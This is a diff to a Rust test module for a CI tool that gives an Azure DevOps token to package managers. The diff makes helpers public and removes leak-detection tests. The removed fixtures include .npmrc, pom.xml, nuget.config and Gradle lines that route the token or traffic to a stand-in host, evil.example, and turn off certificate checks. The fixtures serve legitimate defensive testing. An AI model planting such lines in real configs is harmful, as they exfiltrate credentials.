@@ -11,7 +11,7 @@ use crate::tools::reading::{Among, Hidden, Origin, RelPath, Unparsable};
 use crate::tools::testing::{Disk, file, host, names, taken_apart};
 use crate::tools::{TOOLS, git};
 
-fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
+pub fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
     PermittedOrganization {
         organization: Organization::parse(name).unwrap(),
         standing,
@@ -20,15 +20,15 @@ fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
     }
 }
 
-struct Case<'a> {
+pub struct Case<'a> {
     /// The tools that the user wants; none where the workspace decides.
-    named: &'a [&'static str],
-    permitted: Vec<PermittedOrganization>,
-    feeds: &'a [FeedInput],
-    grants: Vec<Grant>,
-    headers: bool,
-    environment: &'a [(&'a str, &'a str)],
-    files: &'a [(&'a str, &'a str)],
+    pub named: &'a [&'static str],
+    pub permitted: Vec<PermittedOrganization>,
+    pub feeds: &'a [FeedInput],
+    pub grants: Vec<Grant>,
+    pub headers: bool,
+    pub environment: &'a [(&'a str, &'a str)],
+    pub files: &'a [(&'a str, &'a str)],
 }
 
 impl Default for Case<'_> {
@@ -46,7 +46,7 @@ impl Default for Case<'_> {
 }
 
 /// Has each tool read what it reads of files below the checkout.
-fn sources(files: &[(&str, &str)], host: &Host) -> Vec<ToolSources> {
+pub fn sources(files: &[(&str, &str)], host: &Host) -> Vec<ToolSources> {
     let of_tool = |tool: &&'static dyn Tool| {
         let path = |path: &str| if path.starts_with('/') { path.to_owned() } else { format!("/agent/1/s/{path}") };
         let files = files.iter().map(|(at, text)| file(&path(at), text));
@@ -62,11 +62,11 @@ fn sources(files: &[(&str, &str)], host: &Host) -> Vec<ToolSources> {
 }
 
 impl Case<'_> {
-    fn outcome(&self) -> Plan {
+    pub fn outcome(&self) -> Plan {
         self.result().unwrap()
     }
 
-    fn result(&self) -> Result<Plan, PlanError> {
+    pub fn result(&self) -> Result<Plan, PlanError> {
         let host = host(self.environment);
         let named = (!self.named.is_empty()).then(|| self.named.iter().copied().collect());
         let choice = Choice { tools: TOOLS.to_vec(), named };
@@ -88,7 +88,7 @@ pub fn outcome_of(files: &[(&str, &str)], environment: &[(&str, &str)]) -> Plan 
     Case { environment, files, ..Case::default() }.outcome()
 }
 
-fn tools(outcome: &Plan) -> Vec<&'static str> {
+pub fn tools(outcome: &Plan) -> Vec<&'static str> {
     let mut tools: Vec<&str> = outcome.served.iter().map(|served| served.tool).collect();
     tools.dedup();
     tools
@@ -102,9 +102,9 @@ pub fn warnings(outcome: &Plan) -> Vec<String> {
     outcome.warnings.sentences()
 }
 
-const NPMRC: &str = "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n";
+pub const NPMRC: &str = "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n";
 
-fn pom(id: &str, url: &str) -> String {
+pub fn pom(id: &str, url: &str) -> String {
     format!("<project><repositories><repository><id>{id}</id><url>{url}</url></repository></repositories></project>")
 }
 
@@ -147,71 +147,6 @@ fn keys(outcome: &Plan) -> Vec<&str> {
         _ => None,
     });
     files.flat_map(|file| &file.entries).map(|entry| entry.key.as_str()).collect()
-}
-
-const OURS: &str = "<project><repositories><repository><id>ours</id><url>https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1</url>\
-    </repository></repositories></project>";
-const OUR_CONFIG: &str = "<configuration><packageSources><add key='ours' \
-    value='https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json'/></packageSources></configuration>";
-
-#[test]
-fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
-    let evil = "https://evil.example/";
-    let nuget = |sections: &str| format!("<configuration>{sections}</configuration>");
-    let source = |key: &str, url: &str| format!("<packageSources><add key='{key}' value='{url}'/></packageSources>");
-    let secret = "<packageSourceCredentials><z><add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></z></packageSourceCredentials>";
-    let server = format!(
-        "<settings><servers><server><id>z</id><configuration><httpHeaders><property><value>${{env.ADO_ENTRA_TOKEN}}</value></property>\
-         </httpHeaders></configuration></server></servers><mirrors><mirror><id>z</id><url>{evil}</url></mirror></mirrors></settings>"
-    );
-    for (path, text, says) in [
-        (".npmrc", "//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
-        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 2"),
-        (".npmrc", "registry=https://evil.example/${ADO_ENTRA_TOKEN}/".to_owned(), "evil.example"),
-        ("pom.xml", pom("z", "https://evil.example/${env.ADO_ENTRA_TOKEN}/"), "evil.example"),
-        ("vendor/pom.xml", pom("z", "https://${env.ADO_ENTRA_TOKEN}.evil.example/"), "vendor/pom.xml"),
-        ("ci-settings.xml", server, "evil.example"),
-        ("nuget.config", nuget(&source("z", "https://evil.example/%ADO_ENTRA_TOKEN%/")), "evil.example"),
-        ("nuget.config", nuget(&format!("{}{secret}", source("Z", evil))), "nuget.config"),
-        (
-            "a.csproj",
-            "<Project><RestoreSources>https://evil.example/$(ADO_ENTRA_TOKEN)/</RestoreSources></Project>".to_owned(),
-            "a.csproj",
-        ),
-    ] {
-        let token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9";
-        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token)]] {
-            let npm = format!("registry=https://pkgs.dev.azure.com/contoso/_packaging/g/npm/registry/\n{text}");
-            let text = if path == ".npmrc" { &npm } else { &text };
-            let files = [(path, text.as_str()), ("c/pom.xml", OURS), ("c/nuget.config", OUR_CONFIG)];
-            let error = Case { files: &files, environment, ..Case::default() }.result().unwrap_err();
-            let words = format!("{error} {}", crate::diagnosis::Explain::remedy(&error));
-            assert!(
-                matches!(error, PlanError::Leak { .. })
-                    && !words.contains(token)
-                    && (words.contains(says) || !environment.is_empty()),
-                "{words}"
-            );
-        }
-    }
-}
-
-#[test]
-fn a_repository_may_send_the_token_to_a_permitted_organization() {
-    let maven = "https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1";
-    let nuget = "https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json";
-    let npmrc =
-        format!("{NPMRC}//pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${{ADO_ENTRA_TOKEN}}\n");
-    let settings = format!(
-        "<settings><servers><server><id>f</id><password>${{env.ADO_ENTRA_TOKEN}}</password></server></servers>\
-         <mirrors><mirror><id>f</id><url>{maven}</url></mirror></mirrors></settings>"
-    );
-    let config = format!(
-        "<configuration><packageSources><add key='f' value='{nuget}'/></packageSources><packageSourceCredentials><f>\
-         <add key='ClearTextPassword' value='%ADO_ENTRA_TOKEN%'/></f></packageSourceCredentials></configuration>"
-    );
-    let files = [(".npmrc", npmrc.as_str()), ("ci-settings.xml", &settings), ("nuget.config", &config)];
-    assert_eq!(tools(&Case { files: &files, ..Case::default() }.outcome()), ["npm", "maven", "nuget", "git"]);
 }
 
 #[test]
@@ -357,18 +292,6 @@ fn headers_are_given_where_they_are_wanted() {
 }
 
 #[test]
-fn a_variable_of_a_client_that_holds_the_token_is_guarded_in_every_file() {
-    for text in ["//evil.example/:_authToken=${GIT_CONFIG_VALUE_1}", "[x]\nuser-agent=\"${GIT_CONFIG_VALUE_1}\""] {
-        let text = format!("{NPMRC}{text}\n");
-        let files = [(".npmrc", text.as_str())];
-        let error = Case { headers: true, files: &files, ..Case::default() }.result().unwrap_err();
-        assert!(matches!(error, PlanError::Leak { .. }), "{error}");
-        // With the helper there is nothing in that variable to send.
-        assert!(Case { files: &files, ..Case::default() }.result().is_ok());
-    }
-}
-
-#[test]
 fn a_file_of_the_users_that_cannot_be_read_stops_only_the_tool_that_would_hide_it() {
     let host = host(&[]);
     let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
@@ -434,19 +357,6 @@ fn each_source_of_nugets_file_that_only_an_argument_names_is_told() {
 }
 
 #[test]
-fn a_setting_that_leads_npm_elsewhere_is_named_with_its_line_and_what_to_do() {
-    for (setting, words) in [
-        ("proxy=http://evil.example:8080", ["sends the traffic through a proxy", "HTTPS_PROXY"]),
-        ("strict-ssl=false", ["switches off the check of certificates", "NODE_EXTRA_CA_CERTS"]),
-    ] {
-        let text = format!("{NPMRC}{setting}\n");
-        let said = warnings(&Case { files: &[(".npmrc", &text)], ..Case::default() }.outcome());
-        let [said] = said.as_slice() else { panic!("{said:?}") };
-        assert!(said.starts_with("npm: .npmrc line 2 ") && words.iter().all(|word| said.contains(word)), "{said}");
-    }
-}
-
-#[test]
 fn tools_that_are_not_set_up_are_told_in_a_line_and_not_warned_of() {
     let files = [(".npmrc", NPMRC)];
     let outcome = Case { named: &["git"], files: &files, ..Case::default() }.outcome();
@@ -460,51 +370,6 @@ fn tools_that_are_not_set_up_are_told_in_a_line_and_not_warned_of() {
 }
 
 #[test]
-fn an_exposed_address_takes_npms_credentials_away_and_no_others() {
-    for exposed in [
-        "http://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/",
-        "https://pkgs.dev.azure.com:444/contoso/_packaging/f/npm/registry/",
-        "http://contoso.pkgs.visualstudio.com/_packaging/f/npm/registry/",
-    ] {
-        let rc = format!("{NPMRC}@s:registry={exposed}\n");
-        let lock = format!("{{\"resolved\": \"{exposed}demo/-/demo-1.0.0.tgz\"}}");
-        for files in [
-            &[(".npmrc", rc.as_str())][..],
-            &[(".npmrc", NPMRC), ("package-lock.json", &lock)],
-            &[(".npmrc", NPMRC), ("vendor/x/yarn.lock", &lock)],
-            &[(".npmrc", NPMRC), ("package.json", &lock)],
-        ] {
-            let outcome = Case { files, ..Case::default() }.outcome();
-            assert_eq!(tools(&outcome), ["git"], "{files:?}");
-            let said = warnings(&outcome);
-            assert!(said.len() == 1 && said[0].contains(files.last().unwrap().0), "{said:?}");
-        }
-    }
-    let other = format!("{NPMRC}@s:registry=http://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n");
-    assert_eq!(tools(&Case { files: &[(".npmrc", &other)], ..Case::default() }.outcome()), ["npm", "git"]);
-}
-
-#[test]
-fn settings_that_lead_the_traffic_elsewhere_take_npms_credentials_away() {
-    for (path, setting) in [
-        (".npmrc", "https-proxy=http://evil.example:8099"),
-        (".npmrc", "strict-ssl=false"),
-        ("web/.npmrc", "cafile=./evil.pem"),
-        ("vendor/x/.npmrc", "ca=\"-----BEGIN\""),
-        (".yarnrc", "https-proxy \"http://evil.example/\""),
-        ("pnpm-workspace.yaml", "strictSsl: false"),
-    ] {
-        let files = [("a/.npmrc", NPMRC), (path, setting)];
-        let outcome = Case { files: &files, ..Case::default() }.outcome();
-        assert_eq!(tools(&outcome), ["git"], "{setting}");
-        let said = warnings(&outcome);
-        assert!(said.len() == 1 && said[0].contains(&format!("{path} line 1")), "{said:?}");
-    }
-    let harmless = [("a/.npmrc", NPMRC), (".npmrc", "strict-ssl=true\nproxy=null\nfund=false\n")];
-    assert_eq!(tools(&Case { files: &harmless, ..Case::default() }.outcome()), ["npm", "git"]);
-}
-
-#[test]
 fn a_feed_of_the_input_that_serves_no_tool_is_said() {
     let input = |url: &str| [FeedInput { name: None, feed: Feed::parse(url).unwrap() }];
     let idle =
@@ -515,82 +380,5 @@ fn a_feed_of_the_input_that_serves_no_tool_is_said() {
     for protocol in ["npm/registry/", "pypi/simple/"] {
         let feed = input(&format!("https://pkgs.dev.azure.com/contoso/_packaging/f/{protocol}"));
         assert!(!idle(&Case { feeds: &feed, ..Case::default() }.outcome()), "{protocol}");
-    }
-}
-
-#[test]
-fn a_feed_over_http_gets_a_warning_and_no_token_whatever_the_tool() {
-    const FEED: &str = "//pkgs.dev.azure.com/contoso/_packaging/f";
-    let row = |path, before: &str, behind: &str, ends: &str| {
-        [("https:", true), ("http:", false)]
-            .map(|(scheme, served)| (path, format!("{before}{scheme}{FEED}{behind}{ends}"), served))
-    };
-    let rows = [
-        row(".npmrc", "registry=", "/npm/registry/", "\n"),
-        row(
-            "pom.xml",
-            "<project><repositories><repository><id>f</id><url>",
-            "/maven/v1",
-            "</url></repository></repositories></project>",
-        ),
-        row(
-            "nuget.config",
-            "<configuration><packageSources><add key='f' value='",
-            "/nuget/v3/index.json",
-            "'/></packageSources></configuration>",
-        ),
-        row(".cargo/config.toml", "[registries.f]\nindex = 'sparse+", "/Cargo/index/", "'\n"),
-    ];
-    for (path, text, served) in rows.into_iter().flatten() {
-        let outcome = Case { files: &[(path, &text)], ..Case::default() }.outcome();
-        let said = warnings(&outcome).iter().any(|warning| warning.contains("contoso/f over http"));
-        assert_eq!(
-            (said, tools(&outcome).len()),
-            (!served, if served { 2 } else { 1 }),
-            "{path}: {:?}",
-            warnings(&outcome)
-        );
-    }
-}
-
-/// A client that asks for any address needs no feed to be named.
-#[test]
-fn a_client_that_asks_is_not_set_up_where_the_repository_may_lead_it_elsewhere() {
-    let host = host(&[]);
-    let feed = "maven { url 'https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1' }";
-    let together = "url \"https://pkgs.dev.azure.com/${org}/_packaging/f/maven/v1\"";
-    let peril = "systemProp.https.proxyHost=evil.example";
-    let [root, beside, users] =
-        ["gradle.properties", "vendor/gradle.properties", "/home/build/.gradle/gradle.properties"];
-    let hidden =
-        |origin| Unparsable { file: root.to_owned(), reason: "it is large".to_owned(), hides: Hidden::Names, origin };
-    let led = "gradle.properties line 1 sends Gradle's traffic through a proxy (systemProp.https.proxyHost), so gradle gets no token";
-    for (named, build, properties, unread, is_set_up, said) in [
-        (None, feed, root, None, false, led),
-        (None, together, root, None, false, led),
-        (Some("gradle"), "", root, None, false, led),
-        (Some("gradle"), "", beside, None, false, led),
-        (None, feed, users, None, true, ""),
-        (Some("gradle"), "", users, None, true, ""),
-        (None, feed, users, Some(Origin::Workspace), false, "no feed gets a token"),
-        (Some("gradle"), "", users, Some(Origin::Beside), false, "no feed gets a token"),
-        (None, "", root, None, false, ""),
-    ] {
-        let mut sources = sources(&[("build.gradle", build), (properties, peril)], &host);
-        let gradle = sources.iter_mut().find(|found| found.tool.id().name == "gradle").unwrap();
-        gradle.unread.extend(unread.map(hidden));
-        let choice = Choice { tools: TOOLS.to_vec(), named: named.map(|name| BTreeSet::from([name])) };
-        let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
-        let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "ADO_ENTRA_TOKEN" };
-        let plan = plan(&wanted, &sources, &host, &Disk::default(), &names()).unwrap();
-        let row = format!("{named:?} {build} {properties} {unread:?}: {:?}", warnings(&plan));
-        assert_eq!(plan.deposits.iter().any(|one| one.client == Dialect::Gradle), is_set_up, "{row}");
-        assert_eq!(plan.served.iter().any(|served| served.tool == "gradle"), is_set_up, "{row}");
-        assert_eq!(
-            warnings(&plan).iter().filter(|warning| warning.starts_with("gradle: ")).count(),
-            usize::from(!said.is_empty()),
-            "{row}"
-        );
-        assert!(said.is_empty() || warnings(&plan).iter().any(|warning| warning.contains(said)), "{row}");
     }
 }
